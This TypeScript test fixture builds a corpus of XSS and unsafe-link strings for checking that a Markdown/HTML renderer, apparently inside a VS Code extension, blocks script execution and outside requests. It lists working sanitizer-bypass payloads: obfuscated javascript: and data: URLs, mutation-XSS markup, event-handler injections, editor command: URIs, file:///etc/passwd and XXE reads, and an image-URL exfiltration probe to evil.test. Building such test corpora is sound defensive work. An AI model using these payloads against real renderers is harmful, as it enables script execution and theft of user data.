/**
 * Texts that made some renderer of Markdown or HTML run a script, fetch something or leave its frame. `alert(1)` and
 * `xss(1)` are watched by the harness; every host below would be seen as a request.
 */
const targets: readonly string[] = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript://%0aalert(1)', 'javascript:alert(1)//http://a.test'],
  ...['java\nscript:alert(1)', 'java\tscript:alert(1)', 'java&#x0A;script:alert(1)', 'java&Tab;script:alert(1)'],
  ...['javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)'],
  ...[
    '&#x6A&#x61&#x76&#x61script:alert(1)',
    '\u0001javascript:alert(1)',
    ' javascript:alert(1)',
    '\u00a0javascript:xss(1)',
  ],
  ...['javascript\u200b:alert(1)', 'java\u0000script:alert(1)', 'javascript:%61lert(1)', 'javascript:alert`1`'],
  ...['vbscript:msgbox(1)', 'VBScript:alert(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'jar:javascript:alert(1)!/'],
  ...['data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ...[
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/png;base64,iVBORw0KGgo=',
    'DATA:text/html,x',
    'data:,alert(1)',
  ],
  ...['command:workbench.action.terminal.new', 'command:greenroom.approve?%5B%5D', 'Command:greenroom.send'],
  ...[
    'vscode://greenroom.greenroom/run',
    'vscode-insiders://x/y',
    'vscode-resource://a/b',
    'vscode-webview://x',
    'code:x',
  ],
  ...[
    'file:///etc/passwd',
    'FILE:///c:/windows/win.ini',
    'file://evil.test/share',
    '\\\\evil.test\\share',
    '//evil.test/x',
  ],
  ...[
    'blob:https://panel.test/1',
    'filesystem:https://a.test/',
    'view-source:https://a.test',
    'about:blank',
    'chrome://gpu',
  ],
  ...[
    'ftp://evil.test/x',
    'ws://evil.test',
    'intent://x#Intent;end',
    'ms-settings:',
    'tel:1',
    'sms:1',
    'ssh://evil.test',
  ],
];

const around: readonly ((target: string) => string)[] = [
  (target) => `[click](${target})`,
  (target) => `[click](<${target}> "title")`,
  (target) => `![picture](${target})`,
  (target) => `[![picture](${target})](${target})`,
  (target) => `[click][ref]\n\n[ref]: ${target}`,
  (target) => `<${target}>`,
];

const html: readonly string[] = [
  ...['<script>alert(1)</script>', '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>', '<script/src=data:,alert(1)>'],
  ...[
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '<script>alert(1)//',
    '</script><script>alert(1)',
  ],
  ...['<img src=x onerror=alert(1)>', '<img src=https://evil.test/p.png>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">'],
  ...[
    '<img src="x" onerror="alert(1)"',
    '<img/src=`x`onerror=alert(1)>',
    '<image src=x onerror=alert(1)>',
    '<img srcset="https://evil.test/a 1x">',
  ],
  ...[
    '<img src=x onerror\n=alert(1)>',
    '<img src onerror /" \'"= alt=alert(1)//">',
    '<img onload=alert(1) src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ],
  ...[
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  ],
  ...[
    '<svg><foreignObject><iframe src=javascript:alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><set attributeName=href to=javascript:alert(1)>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  ],
  ...['<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<style>@import url(https://evil.test/x.css)</style>',
    '<style>*{background:url(https://evil.test/x)}</style>',
    '<link rel=stylesheet href=https://evil.test/x.css>',
  ],
  ...[
    '<p style="background:url(https://evil.test/x)">x</p>',
    '<div style="position:fixed;inset:0">cover</div>',
    '<b style=color:expression(alert(1))>x</b>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href=https://evil.test/>',
  ],
  ...[
    '<iframe src=javascript:alert(1)>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<iframe src=https://evil.test></iframe>',
    '<frameset onload=alert(1)>',
  ],
  ...[
    '<object data=javascript:alert(1)>',
    '<embed src=https://evil.test/x.swf>',
    '<applet code=x>',
    '<portal src=https://evil.test>',
    '<object type="text/x-scriptlet" data="https://evil.test">',
  ],
  ...[
    '<form action=https://evil.test><input name=x><button>go</button></form>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<input autofocus onfocus=alert(1)>',
  ],
  ...[
    '<select onfocus=alert(1) autofocus>',
    '<textarea onfocus=alert(1) autofocus>',
    '<keygen onfocus=alert(1) autofocus>',
    '<isindex type=image src=1 onerror=alert(1)>',
  ],
  ...[
    '<video src=https://evil.test/v onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<video poster=https://evil.test/p>',
    '<track src=https://evil.test/t>',
  ],
  ...[
    '<body onload=alert(1)>',
    '<body background=https://evil.test/b>',
    '<html manifest=https://evil.test>',
    '<table background=https://evil.test/t>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<div onmouseover=alert(1)>x</div>',
    '<a href=x onclick=alert(1)>x</a>',
    '<p onpointerenter=alert(1)>x',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="https://evil.test" ping="https://evil.test/ping" target=_top>x</a>',
  ],
  ...[
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  ],
  ...[
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  ],
  ...[
    '<x onclick=alert(1)>custom',
    '<slot onslotchange=alert(1)>',
    '<dialog open onclose=alert(1)>',
    '<a id=x name=getElementById>clobber</a>',
    '<img name=body><img name=createElement>',
  ],
  ...[
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<p title="<!--"><img title="--><img src=x onerror=alert(1)>">',
    '<option><style></option></select><b><img src=x onerror=alert(1)></style>',
  ],
];

const markdown: readonly string[] = [
  ...[
    '[a](https://a.test"onmouseover="alert(1))',
    '[a](https://a.test" onclick="alert(1) "x")',
    '[a](https://a.test \'x" onclick="alert(1)\')',
  ],
  ...[
    '![a](https://evil.test/?q=secret)',
    '![](https://evil.test/p.png)',
    '![a][r]\n\n[r]: https://evil.test/p.png',
    '[![a](https://evil.test/p.png)](https://b.test)',
  ],
  ...[
    '![a](https://evil.test/p.png "t\\" onerror=alert(1)")',
    '![a\\](x" onerror="alert(1))',
    '![<img src=x onerror=alert(1)>](y)',
    '![a](x){onerror=alert(1)}',
  ],
  ...[
    '```html onclick=alert(1)\n<b>\n```',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '~~~js" onclick="alert(1)\nx\n~~~',
    '``` language-"onclick=\nx\n```',
  ],
  ...[
    '`<img src=x onerror=alert(1)>`',
    '`javascript:alert(1)/x.ts`',
    '`"><img src=x onerror=alert(1)>/a.ts`',
    '`../../etc/passwd`',
    '`a" onclick="alert(1)/b.ts:1`',
  ],
  ...[
    '<javascript:alert(1)>',
    '<https://a.test/"onclick="alert(1)>',
    '<mailto:a@b.test?body=<script>alert(1)</script>>',
    'https://a.test/<script>alert(1)</script>',
  ],
  ...[
    'https://a.test/"onmouseover="alert(1)',
    'javascript:alert(1)',
    '[a]: javascript:alert(1)\n[a]',
    '[a]: <data:text/html,x> "t"\n\n[a][]',
  ],
  ...[
    '[<img src=x onerror=alert(1)>](https://a.test)',
    '[a](https://a.test)<script>alert(1)</script>',
    '[a](<javascript:alert(1)>)',
    '[a](java\\script:alert(1))',
  ],
  ...[
    '[a]( javascript:alert(1))',
    '[a](\tjavascript:alert(1))',
    '[a](\u0085javascript:alert(1))',
    '[a](javascript:alert\\(1\\))',
    '[a](#"onclick="alert(1))',
    '[a](?x=javascript:alert(1))',
  ],
  ...[
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '| a |\n|:--" onclick="alert(1)|\n| b |',
    '- <script>alert(1)</script>\n- [a](javascript:alert(1))',
    '> <iframe src=https://evil.test>',
  ],
  ...[
    '# <svg onload=alert(1)>',
    '1. <details open ontoggle=alert(1)>\n2. x',
    '*<b onclick=alert(1)>*',
    '~~<img src=https://evil.test>~~',
    '**[a](vbscript:x)**',
    '[[a](https://a.test)](javascript:alert(1))',
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '\\<script>alert(1)\\</script>',
    '&lt;img src&equals;x onerror&equals;alert(1)&gt;',
    '\u003cscript\u003ealert(1)',
  ],
  ...[
    '[a](command:greenroom.approve "Approve")',
    '<command:greenroom.approve>',
    '[a](vscode:extension/evil)',
    '[a](file:///etc/passwd)',
    '[click](a.ts"onclick="alert(1))',
    '[p](<a b" onclick="alert(1)>)',
  ],
  ...[
    '[p](../../../../etc/passwd)',
    '[p](%2e%2e/%2e%2e/x)',
    '[p](a.ts#L1"onx=1)',
    '[p](javascript%3Aalert(1))',
    '[p](%6aavascript:alert(1))',
    '[p](https:javascript:alert(1))',
    '[p](https://user:pass@evil.test\\@a.test)',
  ],
];

export const attacks: readonly string[] = [
  ...targets.flatMap((target) => around.map((wrap) => wrap(target))),
  ...html,
  ...html.map((text) => `text ${text} text\n\n${text}\n\nend`),
  ...markdown,
];
